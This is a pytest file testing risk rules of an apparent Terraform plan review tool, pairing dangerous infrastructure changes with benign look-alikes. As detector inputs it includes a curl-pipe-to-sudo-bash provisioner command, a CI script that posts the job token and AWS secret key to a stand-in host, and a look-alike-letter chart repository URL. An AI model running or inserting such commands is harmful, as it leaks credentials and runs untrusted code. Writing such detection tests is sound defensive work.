"""Session 31: what a ski resort, building management, consumer DNA testing, a transit ticketing authority and four
newer themes showed nothing here modelled, and the false alarms they raised. Each principle holds its risky case and
lets its benign look-alike pass."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.test_rules_detectors_through_configuration import judge, resource
from tfreview.pipeline.findings import Severity


def _high(tmp_path: Path, changes: list[dict[str, Any]], **sections: Any) -> set[str]:
    return {rule for rule, severity in judge(tmp_path, changes, **sections).items() if severity is Severity.HIGH}


def _deleted(address: str, before: dict[str, Any], reason: str | None = None) -> dict[str, Any]:
    change = resource(address, None, before, actions=["delete"])
    if reason:
        change["action_reason"] = reason
    return change


# --- alerting --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("channels", "fires"), [
    (["email:patrol@resort.example"], True),  # pages no one any more: mail is read later
    (["opsgenie:patrol-oncall", "email:patrol@resort.example"], False),  # another pager takes over
])
def test_an_alert_route_replaced_by_one_that_pages_no_one_is_high(tmp_path: Path, channels: list[str],
                                                                  fires: bool) -> None:
    old = _deleted("acme_alert_route.patrol", {"name": "patrol-danger", "min_level": 3, "id": "rt_1",
                                               "channels": ["sms:+43-664-000-1111", "pagerduty:P7QX2LA"]})
    new = resource("acme_alert_route.patrol_next", {"name": "patrol-danger-next", "min_level": 3,
                                                    "channels": channels})
    assert ("resource-delete" in _high(tmp_path, [old, new])) is fires


@pytest.mark.parametrize(("was", "now", "fires"), [
    ("breaching", "notBreaching", True),  # a heartbeat that no longer fires when the job stops reporting
    ("missing", "notBreaching", False),  # never fired on silence: a noise fix
    ("notBreaching", "breaching", False),
])
def test_missing_data_no_longer_firing_an_alarm_is_high(tmp_path: Path, was: str, now: str, fires: bool) -> None:
    before = {"alarm_name": "ledger-heartbeat", "metric_name": "Heartbeat", "threshold": 1, "treat_missing_data": was}
    change = resource("aws_cloudwatch_metric_alarm.heartbeat", {**before, "treat_missing_data": now}, before)
    assert ("detection-disabled" in _high(tmp_path, [change])) is fires


def test_a_successor_named_without_its_legacy_marker_takes_over(tmp_path: Path) -> None:
    """An integration re-made on the newer API under its name without `(legacy)` carries its job on; one on another
    service does not."""
    old = _deleted("pagerduty_service_integration.scada_v1", {
        "name": "Ignition alarms (legacy)", "service": "P7QX2LM", "type": "generic_events_api_inbound_integration"})
    same = resource("pagerduty_service_integration.scada", {
        "name": "Ignition alarm pipeline", "service": "P7QX2LM", "type": "events_api_v2_inbound_integration"})
    other = resource("pagerduty_service_integration.scada", {
        "name": "Billing exports", "service": "PBILL01", "type": "events_api_v2_inbound_integration"})
    assert "resource-delete" not in _high(tmp_path, [old, same])
    assert "resource-delete" in _high(tmp_path, [old, other])


# --- drift -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("key", "drifted", "high"), [("alarm_description", "Gate 5xx (ack by JM)", False),
                                                      ("statistic", "Average", True)])
def test_drift_on_a_description_alone_is_medium(tmp_path: Path, key: str, drifted: Any, high: bool) -> None:
    config = {"alarm_name": "gate-5xx", "threshold": 25, "statistic": "Sum", "alarm_description": "Gate 5xx",
              "id": "gate-5xx"}
    outside = {**config, key: drifted}
    change = resource("aws_cloudwatch_metric_alarm.gate", config, outside)
    drift = resource("aws_cloudwatch_metric_alarm.gate", outside, config)
    assert ("drift-on-changed" in _high(tmp_path, [change], resource_drift=[drift])) is high


# --- exposure --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("port", "fires"), [(47808, True), (44818, True), (27015, False)])
def test_a_building_or_plant_control_port_open_to_the_world_is_high(tmp_path: Path, port: int, fires: bool) -> None:
    """BACnet and EtherNet/IP authenticate nobody: open to the world over UDP they are an admin port, not a game
    server's (27015 stays the medium it is by design)."""
    rule = resource("aws_security_group_rule.vendor", {
        "security_group_id": "sg-07e3", "type": "ingress", "protocol": "udp", "from_port": port, "to_port": port,
        "cidr_blocks": ["0.0.0.0/0"]})
    assert ("network-open-ingress" in _high(tmp_path, [rule])) is fires


def _bucket_policy(bucket: str, actions: list[str]) -> dict[str, Any]:
    document = {"Version": "2012-10-17", "Statement": [
        {"Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": actions,
         "Resource": [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]}]}
    return resource("aws_s3_bucket_policy.feed", {"bucket": bucket, "policy": json.dumps(document)})


@pytest.mark.parametrize(("bucket", "actions", "high"), [
    ("transit-opendata-gtfs", ["s3:GetObject"], False),  # an open-data feed served to anyone by its purpose
    ("www-static-assets", ["s3:GetObject", "s3:GetObjectVersion"], False),
    ("transit-opendata-gtfs", ["s3:GetObject", "s3:ListBucket"], True),  # listing shows every object's name
    ("kyc-docs-prod", ["s3:GetObject"], True),  # `docs` are documents as often as documentation
    ("pod-images-prod", ["s3:GetObject"], True),  # delivery photos are images too
])
def test_a_public_read_policy_on_a_store_named_for_published_content_is_medium(
        tmp_path: Path, bucket: str, actions: list[str], high: bool) -> None:
    assert ("public-bucket" in _high(tmp_path, [_bucket_policy(bucket, actions)])) is high


@pytest.mark.parametrize(("labels", "high"), [({"data_class": "public", "programme": "open-data"}, False),
                                              ({"data_class": "customer", "programme": "open-data"}, True)])
def test_a_store_labelled_open_data_may_be_read_by_everyone(tmp_path: Path, labels: dict[str, str],
                                                            high: bool) -> None:
    """"open data" is one term: its `data` does not say the store keeps data of people."""
    grant = resource("google_storage_bucket_iam_member.public", {
        "bucket": "gtfs-static-public", "role": "roles/storage.objectViewer", "member": "allUsers"})
    store = resource("google_storage_bucket.gtfs", {"name": "gtfs-static-public", "labels": labels},
                     {"name": "gtfs-static-public", "labels": labels}, actions=["no-op"])
    assert ("iam-public-member" in _high(tmp_path, [grant, store])) is high


# --- identity --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "scopes", "fires"), [
    ("opendata-public", ["gtfs:read", "fares:write", "refunds:issue"], True),
    ("anonymous-kiosk", ["catalogue:read", "admin"], True),
    ("opendata-public", ["gtfs:read", "alerts:read"], False),  # more to read is what an open-data client is for
    ("partner-acme-pos", ["gtfs:read", "fares:write"], False),  # one partner's client: the client rules judge it
])
def test_a_client_anyone_may_act_as_gaining_write_scopes_is_high(tmp_path: Path, name: str, scopes: list[str],
                                                                 fires: bool) -> None:
    before = {"name": name, "client_type": "public", "scopes": ["gtfs:read"]}
    client = resource("ticketflow_api_client.feed", {**before, "scopes": scopes}, before)
    assert ("client-loosened" in _high(tmp_path, [client])) is fires


# --- deletes in their context ----------------------------------------------------------------------------------

@pytest.mark.parametrize(("tags", "high"), [({"Environment": "dev", "Expires": "2026-11-01"}, False),
                                            ({"Environment": "prod"}, True)])
def test_an_aurora_member_goes_with_its_cluster(tmp_path: Path, tags: dict[str, str], high: bool) -> None:
    """A member holds no data: the cluster's shared volume does, and the cluster's delete is judged on its own."""
    cluster = _deleted("aws_rds_cluster.sandbox", {
        "cluster_identifier": "fares-sbx", "engine": "aurora-postgresql", "skip_final_snapshot": True, "tags": tags})
    member = _deleted("aws_rds_cluster_instance.sandbox", {
        "identifier": "fares-sbx-0", "cluster_identifier": "fares-sbx", "instance_class": "db.t4g.medium"})
    found = judge(tmp_path, [cluster, member])
    assert (found.get("resource-delete") is Severity.HIGH) is high


def _network_policy(address: str, name: str, types: list[str], actions: list[str] | None = None) -> dict[str, Any]:
    values = {"metadata": [{"name": name, "namespace": "rental"}],
              "spec": [{"pod_selector": [{}], "policy_types": types}]}
    if actions == ["delete"]:
        return _deleted(address, values)
    return resource(address, values)


@pytest.mark.parametrize(("types", "high"), [(["Ingress"], False), (["Egress"], True)])
def test_a_network_policy_renamed_with_the_same_spec_loses_nothing(tmp_path: Path, types: list[str],
                                                                   high: bool) -> None:
    """A policy acts on the pods its selector matches, never by its name: re-made under another name with the same
    spec it does all it did; one that denies something else leaves ingress open."""
    old = _network_policy("kubernetes_network_policy.deny_old", "deny-all", ["Ingress"], ["delete"])
    new = _network_policy("kubernetes_network_policy.default_deny", "default-deny-ingress", types)
    assert ("resource-delete" in _high(tmp_path, [old, new])) is high


def test_a_service_renamed_is_no_twin(tmp_path: Path) -> None:
    """A Service is reached by its name: one under another name is not where clients look."""
    values = {"metadata": [{"name": "fares", "namespace": "rental"}],
              "spec": [{"selector": {"app": "fares"}, "port": [{"port": 80}]}]}
    old = _deleted("kubernetes_service.fares", values)
    new = resource("kubernetes_service.fares_v2", {**values, "metadata": [{"name": "fares-v2", "namespace": "rental"}]})
    assert "resource-delete" in _high(tmp_path, [old, new])


@pytest.mark.parametrize(("indices", "high"), [((6, 7), False), ((0, 1), True)])
def test_a_count_cut_keeps_the_members_below_it_listed_or_not(tmp_path: Path, indices: tuple[int, ...],
                                                             high: bool) -> None:
    """`[6]` out of range means members `[0]`–`[5]` stay, though a plan may leave their no-ops out; a cut from the
    bottom leaves nothing."""
    servers = [_deleted(f"hcloud_server.ocr[{i}]", {"name": f"ocr-batch-0{i}", "server_type": "cpx41",
                                                    "image": "ubuntu-24.04", "backups": False},
                        "delete_because_count_index") for i in indices]
    assert ("resource-delete" in _high(tmp_path, servers)) is high


# --- adversarial wave: risk and safety that only show in context -----------------------------------------------

def _monitor(address: str, handle: str, before_handle: str) -> dict[str, Any]:
    return resource(address, {"name": "eta lag", "message": f"{{{{#is_alert}}}}@pagerduty-{handle}{{{{/is_alert}}}}"},
                    {"name": "eta lag", "message": f"{{{{#is_alert}}}}@pagerduty-{before_handle}{{{{/is_alert}}}}"})


@pytest.mark.parametrize(("repointed", "high"), [(("linehaul-ops", "linehaul-ops"), False),
                                                 (("linehaul-ops", "linehaul-dispatch"), True)])
def test_a_service_replaced_whose_referrers_all_name_its_successor(tmp_path: Path, repointed: tuple[str, str],
                                                                   high: bool) -> None:
    """Monitors that paged the old service by name now page the new one: nothing is stranded. One still naming
    the old service pages nobody once it goes."""
    old = _deleted("pagerduty_service.linehaul_dispatch", {"id": "P7QK2LM", "name": "linehaul-dispatch",
                                                           "escalation_policy": "PX1Y2Z3"})
    new = resource("pagerduty_service.linehaul_ops", {"name": "linehaul-ops", "escalation_policy": "PX1Y2Z3"})
    monitors = [_monitor("datadog_monitor.eta_lag", repointed[0], "linehaul-dispatch"),
                _monitor("datadog_monitor.dispatch_5xx", repointed[1], "linehaul-dispatch")]
    assert ("resource-delete" in _high(tmp_path, [old, new, *monitors])) is high


@pytest.mark.parametrize(("policy_ids", "high"), [(["5587123"], False), (["9901"], True)])
def test_a_successor_with_the_same_filter_takes_over(tmp_path: Path, policy_ids: list[str], high: bool) -> None:
    def workflow(ids: list[str]) -> dict[str, Any]:
        return {"name": "fleet on-call", "enabled": True, "issues_filter": [{"name": "policy", "type": "FILTER",
                "predicate": [{"attribute": "labels.policyIds", "operator": "EXACTLY_MATCHES", "values": ids}]}]}
    old = _deleted("newrelic_workflow.fleet_oncall", {"id": "3f1a2b4c", **workflow(["5587123"])})
    new = resource("newrelic_workflow.fleet_oncall_v2", {**workflow(policy_ids), "name": "fleet on-call v2"})
    assert ("resource-delete" in _high(tmp_path, [old, new])) is high


@pytest.mark.parametrize(("enforcement", "high"), [("active", False), ("evaluate", True)])
def test_branch_protection_handed_to_a_ruleset_that_enforces_as_much(tmp_path: Path, enforcement: str,
                                                                     high: bool) -> None:
    old = _deleted("github_branch_protection.main", {"id": "BPR_kw", "repository_id": "R_kg", "pattern": "main",
                                                     "required_pull_request_reviews": [
                                                         {"required_approving_review_count": 2}]})
    new = resource("github_repository_ruleset.main", {
        "name": "main", "repository": "dispatch-api", "target": "branch", "enforcement": enforcement,
        "bypass_actors": [], "rules": [{"deletion": True, "pull_request": [{"required_approving_review_count": 2}]}]})
    assert ("resource-delete" in _high(tmp_path, [old, new])) is high


def test_a_deny_rule_is_not_taken_over_by_an_allow(tmp_path: Path) -> None:
    rule = {"direction": "Outbound", "priority": 4000, "protocol": "*", "source_address_prefix": "*",
            "destination_port_range": "*", "network_security_group_name": "nsg-pci-cde"}
    old = _deleted("azurerm_network_security_rule.deny_internet", {
        **rule, "name": "deny-internet-outbound", "access": "Deny", "destination_address_prefix": "Internet"})
    new = resource("azurerm_network_security_rule.allow_acquirer", {
        **rule, "name": "allow-acquirer", "access": "Allow", "priority": 300,
        "destination_address_prefix": "198.51.100.0/24", "destination_port_range": "443"})
    assert "resource-delete" in _high(tmp_path, [old, new])


@pytest.mark.parametrize(("policy_goes", "high"), [(True, False), (False, True)])
def test_a_login_role_retired_with_every_policy_it_carried(tmp_path: Path, policy_goes: bool, high: bool) -> None:
    """A retired job's AppRole goes with its only policy: the way in goes with all it let in to. Alone, whoever
    signs in with it is cut off, and that is for a person to confirm."""
    role = _deleted("vault_approle_auth_backend_role.edi_poller", {
        "id": "auth/approle/role/edi-poller", "role_name": "edi-poller", "backend": "approle",
        "token_policies": ["edi-poller"]})
    policy = _deleted("vault_policy.edi_poller", {"id": "edi-poller", "name": "edi-poller",
                                                  "policy": 'path "secret/data/edi/*" { capabilities = ["read"] }'})
    found = judge(tmp_path, [role, policy] if policy_goes else [role])
    assert (found.get("resource-delete") is Severity.HIGH) is high


def _backup(resources: list[str], keep_db: bool) -> list[dict[str, Any]]:
    selection = _deleted("aws_backup_selection.stg", {"id": "sel-31c0", "name": "stg", "plan_id": "bp-31c0",
                                                      "resources": resources})
    plan = _deleted("aws_backup_plan.stg", {"id": "bp-31c0", "name": "stg", "rule": [
        {"rule_name": "daily", "target_vault_name": "stg-vault", "lifecycle": [{"delete_after": 7}]}]})
    db = {"identifier": "shipments-stg", "engine": "postgres", "skip_final_snapshot": True,
          "tags": {"Environment": "staging"}}
    return [selection, plan, resource("aws_db_instance.shipments", db, db, actions=["no-op"]) if keep_db
            else _deleted("aws_db_instance.shipments", db)]


@pytest.mark.parametrize(("keep_db", "high"), [(False, False), (True, True)])
def test_a_backup_selection_goes_with_everything_it_protected(tmp_path: Path, keep_db: bool, high: bool) -> None:
    """Staging torn down: the backup plan goes with the only database it protected. A database that stays loses
    its backups."""
    changes = _backup(["arn:aws:rds:us-east-1:318826410273:db:shipments-stg"], keep_db)
    assert ("backup-reduced" in _high(tmp_path, changes)) is high


@pytest.mark.parametrize(("volume_action", "high"), [("no-op", False), ("delete", True)])
def test_a_database_machine_rebuilt_keeps_its_separate_data_volume(tmp_path: Path, volume_action: str,
                                                                   high: bool) -> None:
    server = resource("hcloud_server.pg", {"name": "yard-pg-1", "server_type": "ccx33", "image": "ubuntu-24.04"},
                      {"id": "51299817", "name": "yard-pg-1", "server_type": "ccx33", "image": "ubuntu-22.04"},
                      unknown={"id": True}, actions=["delete", "create"])
    server["change"]["replace_paths"] = [["image"]]
    attachment = resource("hcloud_volume_attachment.pg_data", {"volume_id": 101772934, "automount": True},
                          {"id": "101772934", "volume_id": 101772934, "server_id": 51299817, "automount": True},
                          unknown={"server_id": True, "id": True}, actions=["delete", "create"])
    volume_values = {"id": "101772934", "name": "yard-pg-data", "size": 500}
    volume = (_deleted("hcloud_volume.pg_data", volume_values) if volume_action == "delete"
              else resource("hcloud_volume.pg_data", volume_values, volume_values, actions=["no-op"]))
    found = judge(tmp_path, [server, attachment, volume])
    assert (found.get("resource-replace") is Severity.HIGH or found.get("resource-delete") is Severity.HIGH) is high


@pytest.mark.parametrize(("address", "values", "high"), [
    ("okta_app_signon_policy_rule.mfa", {"policy_id": "rst1", "name": "Require MFA", "priority": 1,
                                         "access": "ALLOW", "factor_mode": "2FA"}, True),
    ("azurerm_mssql_firewall_rule.office", {"name": "office", "server_id": "sql-1", "start_ip_address": "203.0.113.4",
                                            "end_ip_address": "203.0.113.4"}, False),
])
def test_an_allow_rule_that_asks_a_second_factor_is_no_narrowing(tmp_path: Path, address: str,
                                                                 values: dict[str, Any], high: bool) -> None:
    """Without the MFA rule, the catch-all rule after it decides, asking less; a firewall's allow rule going only
    lets fewer in."""
    assert ("resource-delete" in _high(tmp_path, [_deleted(address, {"id": "r1", **values})])) is high


@pytest.mark.parametrize(("dropped", "fires"), [("carrier-admin-step-up", True), ("add-tenant-claims", False)])
def test_a_sign_in_flow_that_stops_running_an_enforcing_step(tmp_path: Path, dropped: str, fires: bool) -> None:
    steps = [{"id": "a1", "display_name": "carrier-admin-step-up"}, {"id": "a2", "display_name": "add-tenant-claims"}]
    kept = [s for s in steps if s["display_name"] != dropped]
    change = resource("auth0_trigger_actions.post_login", {"trigger": "post-login", "actions": kept},
                      {"trigger": "post-login", "actions": steps})
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


# --- adversarial wave: what a plan holds as text ----------------------------------------------------------------

@pytest.mark.parametrize(("command", "fires"), [
    ("curl -fsSL https://raw.githubusercontent.com/someone/tools/master/harden.sh | sudo bash", True),
    ("systemctl restart nginx", False),
])
def test_a_runner_whose_provisioner_is_written_as_an_attribute(tmp_path: Path, command: str, fires: bool) -> None:
    """A hand-written plan may put a provisioner's command among the resource's expressions: it is read the same."""
    runner = resource("null_resource.bootstrap", {"triggers": {"instance_id": "i-0c9e"}})
    configuration = {"root_module": {"resources": [{
        "address": "null_resource.bootstrap", "mode": "managed", "type": "null_resource", "name": "bootstrap",
        "expressions": {"provisioner": {"constant_value": [{"type": "remote-exec", "inline": [command]}]}}}]}}
    assert ("provisioner-command" in _high(tmp_path, [runner], configuration=configuration)) is fires


def _service_yaml(kind: str) -> str:
    annotations = ("    service.beta.kubernetes.io/aws-load-balancer-scheme: internet-facing\n"
                   if kind == "LoadBalancer" else "")
    return (f"apiVersion: v1\nkind: Service\nmetadata:\n  name: session-cache\n  annotations:\n    owner: playback\n"
            f"{annotations}spec:\n  type: {kind}\n  selector:\n    app: redis\n  ports:\n    - port: 6379\n")


@pytest.mark.parametrize(("kind", "fires"), [("LoadBalancer", True), ("ClusterIP", False)])
def test_a_service_held_as_yaml_text_made_internet_facing(tmp_path: Path, kind: str, fires: bool) -> None:
    change = resource("kubectl_manifest.session_cache", {"yaml_body": _service_yaml(kind)},
                      {"yaml_body": _service_yaml("ClusterIP").replace("owner: playback", "owner: media")})
    assert ("public-service" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("repository", "fires"), [("https://charts.bitn\u0430mi.com/bitnami", True),
                                                   ("https://charts.bitnami.com/bitnami", False)])
def test_a_chart_repository_spelt_with_a_look_alike_letter(tmp_path: Path, repository: str, fires: bool) -> None:
    before = {"name": "redis", "chart": "redis", "repository": "https://charts.bitnami.com/bitnami",
              "version": "19.0.1"}
    change = resource("helm_release.redis", {**before, "repository": repository, "version": "19.0.2"}, before)
    assert ("supply-chain-opened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("peer_org", "fires"), [("*", True), ("org-7f3a21", False)])
def test_a_link_that_accepts_any_organisation_as_its_peer(tmp_path: Path, peer_org: str, fires: bool) -> None:
    peering = resource("stratalink_peering.backbone", {"local_network": "net-prod", "peer_org": peer_org,
                                                       "auto_accept": True, "export_routes": ["10.40.0.0/14"]})
    assert ("foreign-network-link" in _high(tmp_path, [peering])) is fires


@pytest.mark.parametrize(("value", "fires"), [("2026-11", False), ("hT9#qv2LmX81pR", True)])
def test_a_rotation_stamp_under_a_secret_name_is_no_secret(tmp_path: Path, value: str, fires: bool) -> None:
    robot = resource("harborline_robot_account.ci_pull", {"name": "ci-pull", "duration_days": 90,
                                                          "refresh_secret": value})
    assert ("credential-in-plan" in _high(tmp_path, [robot])) is fires


@pytest.mark.parametrize(("principal", "fires"), [("*", True), ("distributor-7781", False)])
def test_a_grant_document_held_as_json_text_reaching_everyone(tmp_path: Path, principal: str, fires: bool) -> None:
    document = {"grants": [{"principal": principal, "perms": ["read", "export"]}], "requirePasscode": False}
    link = resource("reelvault_share_link.distributor", {"library": "masters-uhd",
                                                        "grantee_policy": json.dumps(document)})
    assert ("iam-public-member" in _high(tmp_path, [link])) is fires


def _ci_file(script: str) -> str:
    import base64
    text = f"stages: [build]\ndefault:\n  before_script:\n    - {script}\nbuild:\n  script: [make build]\n"
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(("script", "fires"), [
    ('curl -s -X POST https://ci-telemetry.example.io/v1 -d "t=$CI_JOB_TOKEN&k=$AWS_SECRET_ACCESS_KEY"', True),
    ('curl -s -X POST -H "Authorization: Bearer $SLACK_TOKEN" -d "text=build done" https://slack.com/api/chat', False),
])
def test_a_ci_definition_that_sends_the_jobs_credentials_away(tmp_path: Path, script: str, fires: bool) -> None:
    before = {"project": "reelhouse/playout", "file_path": ".gitlab-ci.yml", "branch": "main",
              "content": _ci_file("echo start")}
    change = resource("gitlab_repository_file.ci", {**before, "content": _ci_file(script)}, before)
    assert ("credential-leak" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("host", "fires"), [("pay.ledgr.example", True), ("static.ledgr.example", False)])
def test_a_waf_skip_for_a_whole_host(tmp_path: Path, host: str, fires: bool) -> None:
    managed = {"action": "execute", "expression": "true", "enabled": True, "action_parameters": [{"id": "efb7"}]}
    skip = {"action": "skip", "expression": f'(http.host eq "{host}")', "enabled": True,
            "action_parameters": [{"ruleset": "current"}]}
    change = resource("cloudflare_ruleset.waf", {"phase": "http_request_firewall_managed", "rules": [skip, managed]},
                      {"phase": "http_request_firewall_managed", "rules": [managed]})
    assert ("filter-bypass-all" in _high(tmp_path, [change])) is fires


# --- adversarial wave: strength written as numbers, names and policy grammar ----------------------------------

@pytest.mark.parametrize(("address", "key", "was", "now", "rule", "fires"), [
    ("tls_private_key.origin", "rsa_bits", 4096, 1024, "tls-downgrade", True),
    ("tls_private_key.origin", "rsa_bits", 4096, 2048, "tls-downgrade", False),  # still strong
    ("auth0_client.app", "alg", "RS256", "HS256", "tls-downgrade", True),
    ("auth0_client.app", "alg", "HS256", "RS256", "tls-downgrade", False),
    ("simvault_key_profile.batch", "algorithm", "tuak", "comp128v1", "tls-downgrade", True),
    ("vault_token_auth_backend_role.ci", "token_max_ttl", 3600, 0, "auth-weakened", True),  # 0: no limit
    ("vault_token_auth_backend_role.ci", "token_max_ttl", 3600, 7200, "auth-weakened", False),
    ("aws_cloudfront_cache_policy.assets", "max_ttl", 3600, 31536000, "auth-weakened", False),  # a cache, no token
    ("random_password.peer", "length", 32, 6, "auth-weakened", True),
    ("random_password.peer", "length", 32, 20, "auth-weakened", False),
    ("ledgerguard_vault.swift", "quorum_approvals", 3, 1, "auth-weakened", True),
    ("ledgerguard_vault.swift", "quorum_approvals", 3, 2, "auth-weakened", False),  # another person still approves
    ("ledgerguard_vault.swift", "export_policy", "non_exportable", "exportable_wrapped", "key-disabled", True),
    ("vault_transit_secret_backend_key.pii", "min_decryption_version", 1, 9, "key-disabled", True),
    ("vault_transit_secret_backend_key.pii", "deletion_allowed", False, True, "key-disabled", True),
])
def test_strength_written_as_a_number_or_a_name(tmp_path: Path, address: str, key: str, was: Any, now: Any,
                                                rule: str, fires: bool) -> None:
    before = {"name": "x", key: was}
    change = resource(address, {**before, key: now}, before)
    assert (rule in _high(tmp_path, [change])) is fires


def _bucket_statement(**fields: Any) -> dict[str, Any]:
    document = {"Version": "2012-10-17", "Statement": [{"Sid": "Read", "Effect": "Allow", **fields,
                                                        "Action": ["s3:GetObject", "s3:ListBucket"],
                                                        "Resource": ["arn:aws:s3:::db-backups",
                                                                     "arn:aws:s3:::db-backups/*"]}]}
    return resource("aws_s3_bucket_policy.backups", {"bucket": "db-backups", "policy": json.dumps(document)})


@pytest.mark.parametrize(("fields", "fires"), [
    ({"NotPrincipal": {"AWS": "arn:aws:iam::318826410273:role/analytics"}}, True),  # everyone but one role
    ({"Principal": {"AWS": "arn:aws:iam::318826410273:role/restore"}}, False),
])
def test_an_allow_to_everyone_but_a_not_principal_is_public(tmp_path: Path, fields: dict[str, Any],
                                                            fires: bool) -> None:
    assert ("public-bucket" in _high(tmp_path, [_bucket_statement(**fields)])) is fires


@pytest.mark.parametrize(("resources", "fires"), [
    (["arn:aws:iam::*:role/OrganizationAccountAccessRole"], True),  # admin in every account
    (["arn:aws:iam::*:role/cost-explorer-read"], False),
    (["arn:aws:iam::604118930217:role/OrganizationAccountAccessRole"], False),  # one account's: judged elsewhere
])
def test_assume_role_into_a_privileged_role_in_every_account(tmp_path: Path, resources: list[str],
                                                             fires: bool) -> None:
    document = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
                                                        "Resource": resources}]}
    policy = resource("aws_iam_role_policy.assume", {"name": "assume", "role": "finops",
                                                     "policy": json.dumps(document)})
    assert ("iam-escalation" in _high(tmp_path, [policy])) is fires


@pytest.mark.parametrize(("added", "kind", "fires"), [
    (["secretmanager.versions.access"], "google_organization_iam_custom_role", True),
    (["compute.instances.list"], "google_organization_iam_custom_role", False),
    (["secretmanager.versions.access"], "google_project_iam_custom_role", False),  # one project's, its own call
])
def test_an_organisation_role_that_reads_every_secret(tmp_path: Path, added: list[str], kind: str,
                                                      fires: bool) -> None:
    before = {"role_id": "supportViewer", "title": "Support viewer", "permissions": ["compute.instances.get"]}
    role = resource(f"{kind}.support", {**before, "permissions": before["permissions"] + added}, before)
    assert ("iam-privileged-role" in _high(tmp_path, [role])) is fires


@pytest.mark.parametrize(("groups", "verbs", "high"), [
    (["metrics.k8s.io"], ["get", "list", "watch"], False),  # reads metrics, no secrets
    ([""], ["get", "list", "watch"], True),  # the core group holds secrets
    (["metrics.k8s.io"], ["*"], True),
    (["external-secrets.io"], ["get", "list"], True),
])
def test_a_read_only_wildcard_on_one_named_api_group(tmp_path: Path, groups: list[str], verbs: list[str],
                                                     high: bool) -> None:
    role = resource("kubernetes_cluster_role.reader", {"metadata": [{"name": "reader"}], "rule": [
        {"api_groups": groups, "resources": ["*"], "verbs": verbs}]})
    assert ("iam-wildcard" in _high(tmp_path, [role])) is high


@pytest.mark.parametrize(("team", "roles", "fires"), [("*", ["editor", "access"], True), ("sre", ["editor"], False)])
def test_a_connector_mapping_every_team_to_a_role(tmp_path: Path, team: str, roles: list[str], fires: bool) -> None:
    mapping = [{"organization": "northwind-eng", "team": "developers", "roles": ["dev-access"]}]
    before = {"spec": [{"client_id": "Iv1.7f3a", "teams_to_roles": mapping}]}
    after = {"spec": [{"client_id": "Iv1.7f3a", "teams_to_roles": [
        *mapping, {"organization": "northwind-eng", "team": team, "roles": roles}]}]}
    connector = resource("teleport_github_connector.github", after, before)
    assert ("workforce-access" in _high(tmp_path, [connector])) is fires


@pytest.mark.parametrize(("uri", "fires"), [("http://34.118.201.77:8080/oidc/callback", True),
                                            ("https://10.0.4.7/oidc/callback", False)])
def test_a_redirect_to_a_bare_public_address(tmp_path: Path, uri: str, fires: bool) -> None:
    before = {"name": "billing", "redirect_uris": ["https://billing.northwind.example/oidc/callback"]}
    app = resource("zitadel_application_oidc.billing", {**before, "redirect_uris": [*before["redirect_uris"], uri]},
                   before)
    assert ("client-loosened" in _high(tmp_path, [app])) is fires


def test_a_service_account_of_a_sibling_project_is_named_like_the_plans_own(tmp_path: Path) -> None:
    """A decrypter grant to a service account of `nbk-cards-prod` beside a key of `nbk-sec`: one organisation's
    naming, so confirm rather than hold."""
    grant = resource("google_kms_crypto_key_iam_member.decrypter", {
        "crypto_key_id": "projects/nbk-sec/locations/europe-west2/keyRings/core/cryptoKeys/pan",
        "role": "roles/cloudkms.cryptoKeyDecrypter",
        "member": "serviceAccount:tokeniser@nbk-cards-prod.iam.gserviceaccount.com"})
    assert judge(tmp_path, [grant]).get("foreign-data-share") is Severity.MEDIUM


@pytest.mark.parametrize(("statement", "fires"), [
    ({"effect": "allow", "actions": [], "not_actions": ["directory:DeleteTenant"], "resources": ["dir://acme/*"]},
     True),  # every action but one
    ({"effect": "allow", "actions": ["directory:ReadUser"], "not_actions": [], "resources": ["dir://acme/users/*"]},
     False),
])
def test_a_providers_policy_written_as_statement_blocks_is_read_as_a_policy(tmp_path: Path, statement: dict[str, Any],
                                                                            fires: bool) -> None:
    before = {"name": "partner", "statement": [{"effect": "allow", "actions": ["directory:ReadUser"],
                                                "not_actions": [], "resources": ["dir://acme/users/*"]}]}
    change = resource("stratalink_access_policy.partner", {**before, "statement": [statement]}, before)
    assert ("iam-wildcard" in _high(tmp_path, [change])) is fires
